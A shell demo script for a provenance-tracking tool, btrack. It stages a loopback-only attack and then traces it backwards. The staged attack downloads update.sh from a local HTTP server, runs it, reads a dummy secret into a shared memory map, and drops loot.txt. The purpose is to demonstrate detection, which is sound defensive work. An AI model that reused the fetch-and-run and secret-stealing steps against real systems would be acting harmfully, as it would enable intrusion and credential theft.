#!/bin/sh
# demo.sh - `make demo`: btrack's main job on real programs.
#
# Records a small attack with `btrack record` (ptrace + seccomp, and the
# page monitor for shared mappings), then walks back from the file the
# attacker dropped and renders the graph:
#
#   1. ordinary work: a board application writes its status into page 0 of
#      a shared, memory-mapped file (work/board);
#   2. a script is downloaded over HTTP from a server on 127.0.0.1 (the
#      stand-in for the internet; it runs outside the recording, so it is
#      a remote endpoint to btrack);
#   3. the script runs: it reads a secret and writes it into page 3 of the
#      same shared file, through the mapping (no write(2) at all);
#   4. another process maps the file, reads page 3 and drops work/loot.txt;
#      a monitoring process reads page 0 and writes work/status.txt.
#
# Backtracking work/loot.txt at page granularity finds the download, the
# script and the secret, and not the board application (it wrote another
# page); at object granularity the board application shows up too: that is
# the false dependency page-level monitoring removes.
#
# Output in demo-out/ (or $BTRACK_DEMO_OUT): attack.btl (the log),
# attack.txt, attack.json, attack.svg (page granularity), attack-object.svg
# (object granularity), attack.html (the report to open in a browser),
# attack.prov.json (W3C PROV-JSON).
set -eu
top=$(cd "$(dirname "$0")/.." && pwd)
B=${BTRACK:-$top/btrack}
out=${BTRACK_DEMO_OUT:-$top/demo-out}
rm -rf "$out"
mkdir -p "$out/www" "$out/work"
cd "$out"
server=
trap '[ -n "$server" ] && kill $server 2>/dev/null' EXIT

say() { printf '\n== %s\n' "$*"; }

# Debian's python3 (a version manager's shim would add its own processes).
PY=/usr/bin/python3
[ -x "$PY" ] || PY=$(command -v python3)

# The "internet": an HTTP server on loopback serving the payload.
cat >www/update.sh <<'EOF'
#!/bin/sh
# "update.sh": what the attacker's download really does.
secret=$(cat "$DEMO/work/secret.txt")
"$PY" - "$DEMO/work/board" "$secret" <<'PY'
import mmap, sys
with open(sys.argv[1], "r+b") as f:
    m = mmap.mmap(f.fileno(), 4 * 4096, mmap.MAP_SHARED)
    data = ("stolen: " + sys.argv[2] + "\n").encode()
    m[3 * 4096:3 * 4096 + len(data)] = data
    m.close()
PY
EOF
"$PY" -c '
import http.server, functools, sys
h = functools.partial(http.server.SimpleHTTPRequestHandler, directory="www")
h.log_message = lambda *a: None
s = http.server.HTTPServer(("127.0.0.1", 0), h)
print(s.server_address[1], flush=True)
s.serve_forever()
' >port &
server=$!
i=0
while [ ! -s port ] && [ $i -lt 100 ]; do sleep 0.05; i=$((i + 1)); done
port=$(cat port)
[ -n "$port" ] || { echo "demo: the local HTTP server did not start" >&2; exit 1; }

echo "s3cr3t-$(date +%s)" >work/secret.txt
head -c 16384 /dev/zero >work/board

cat >attack.sh <<EOF
set -e
DEMO=$out; PY=$PY; export DEMO PY
cd $out/work
# 1. ordinary work: the board application writes page 0
\$PY -c '
import mmap
with open("board", "r+b") as f:
    m = mmap.mmap(f.fileno(), 4 * 4096, mmap.MAP_SHARED)
    m[0:10] = b"status: ok"
'
date >started
ls /etc >listing
# 2. the download
\$PY -c 'import urllib.request; urllib.request.urlretrieve("http://127.0.0.1:$port/update.sh", "update.sh")'
# 3. it runs
sh update.sh
# 4. exfiltration: read page 3, drop loot.txt; monitoring reads page 0
\$PY -c '
import mmap
with open("board", "rb") as f:
    m = mmap.mmap(f.fileno(), 4 * 4096, mmap.MAP_SHARED, mmap.PROT_READ)
    open("loot.txt", "wb").write(m[3 * 4096:3 * 4096 + 64].rstrip(b"\\0"))
'
\$PY -c '
import mmap
with open("board", "rb") as f:
    m = mmap.mmap(f.fileno(), 4 * 4096, mmap.MAP_SHARED, mmap.PROT_READ)
    open("status.txt", "wb").write(m[0:10])
'
EOF

say "recording the attack: btrack record -o demo-out/attack.btl -- sh attack.sh"
"$B" record --force -o attack.btl -- sh attack.sh
printf 'the attacker dropped work/loot.txt: %s\n' "$(cat work/loot.txt)"

say "backtracking from the dropped file: btrack backtrack --from file:$out/work/loot.txt"
"$B" backtrack --log attack.btl --from "file:$out/work/loot.txt" | tee attack.txt
"$B" backtrack --log attack.btl --from "file:$out/work/loot.txt" \
	--format json -o attack.json 2>/dev/null
"$B" backtrack --log attack.btl --from "file:$out/work/loot.txt" \
	-o attack.svg 2>/dev/null
"$B" backtrack --log attack.btl --from "file:$out/work/loot.txt" \
	--granularity object -o attack-object.svg 2>/dev/null
"$B" backtrack --log attack.btl --from "file:$out/work/loot.txt" \
	--granularity object --format json -o attack-object.json 2>/dev/null
"$B" backtrack --log attack.btl --from "file:$out/work/loot.txt" \
	-o attack.html 2>/dev/null
"$B" backtrack --log attack.btl --from "file:$out/work/loot.txt" \
	-o attack.prov.json 2>/dev/null

say "what the graph says"
"$PY" - attack.json attack-object.json "$port" attack.svg attack.txt \
	attack-object.svg <<'PY'
import json, re, sys
page = json.load(open(sys.argv[1]))
obj = json.load(open(sys.argv[2]))
port = sys.argv[3]
svg = open(sys.argv[4]).read()
text = open(sys.argv[5]).read()

def labels(d):
    return {n["label"] for n in d["nodes"]}

def board_writer(d, page_no):
    # python3 processes whose argv writes page `page_no` of the board
    return [n for n in d["nodes"] if n["kind"] == "process"
            and any(("m[%d:" % page_no) in a for a in (n.get("argv") or []))]

entries = sorted(n["label"] for n in page["nodes"] if n["entry"]
                 and n["kind"] == "endpoint")
ok = True
def check(cond, what):
    global ok
    print(("  yes  " if cond else "  NO   ") + what)
    ok = ok and cond

check("127.0.0.1:" + port in labels(page),
      "the download (127.0.0.1:%s) is an entry point: %s" % (port, entries))
check(any(l.endswith("/work/secret.txt") for l in labels(page)),
      "the secret the script read is found")
check(any(l.endswith("/work/update.sh") for l in labels(page)),
      "the downloaded script is found")
check(not board_writer(page, 0),
      "page granularity: the board application (page 0) is not a cause")
check(bool(board_writer(obj, 0)),
      "object granularity: it is (the false dependency pages remove)")

# The picture, as someone reading it would check it.
def px(doc):
    size = re.search(r'<svg width="([0-9.]+)pt" height="([0-9.]+)pt"', doc)
    return tuple(float(size.group(i)) * 96 / 72 for i in (1, 2))
w, h = px(svg)
check(w <= 1600, "the picture fits 1600 px at 96 dpi: %.0f x %.0f px" % (w, h))
w, h = px(open(sys.argv[6]).read())
check(w <= 1600, "at object granularity too: %.0f x %.0f px" % (w, h))
def node_y(nid):
    m = re.search(r'<g id="%s" class="node">.*?<text [^>]* y="([-0-9.]+)"'
                  % nid, svg, re.S)
    return float(m.group(1)) if m else None
ys = {n["id"]: node_y(n["id"]) for n in page["nodes"]}
det = [n["id"] for n in page["nodes"] if n["detection"]][0]
check(all(y is not None for y in ys.values()), "every object is drawn")
check(all(ys[i] < ys[det] for i in ys if i != det),
      "the detection point is at the bottom")
check("<title>cluster_legend</title>" in svg, "a legend explains the picture")
# The bold path: from the entry point ranked first, red edges down to
# the detection point.
top = min((n for n in page["nodes"] if n.get("rank")), key=lambda n: n["rank"])
bold = {}
for m in re.finditer(r'<g id="e([0-9]+)_([0-9]+)" class="edge">(.*?)</g>',
                     svg, re.S):
    if 'stroke="#c00000"' in m.group(3):
        bold["n" + m.group(1)] = "n" + m.group(2)
at, seen = top["id"], 0
while at in bold and at != det and seen < 50:
    at, seen = bold[at], seen + 1
check(at == det, "the attack path in bold runs from %s to the detection "
      "point" % top["label"])
# The text: commands as run, and no send into the endpoint as its cause.
check(re.search(r"\] sh update\.sh \[[0-9]+\]", text) is not None,
      "the text names processes by their command (sh update.sh)")
check("<- send" not in text, "no send into the endpoint is listed as a cause")
check("x86_64-linux-gnu" not in text and "dash [" not in text,
      "no executable file names for processes")
print("\n  page granularity: %d objects; object granularity: %d objects"
      % (len(page["nodes"]), len(obj["nodes"])))
sys.exit(0 if ok else 1)
PY

say "rendered"
for f in attack.html attack.svg attack-object.svg attack.txt attack.json \
    attack.prov.json attack.btl; do
	printf '  %s\n' "$out/$f"
done
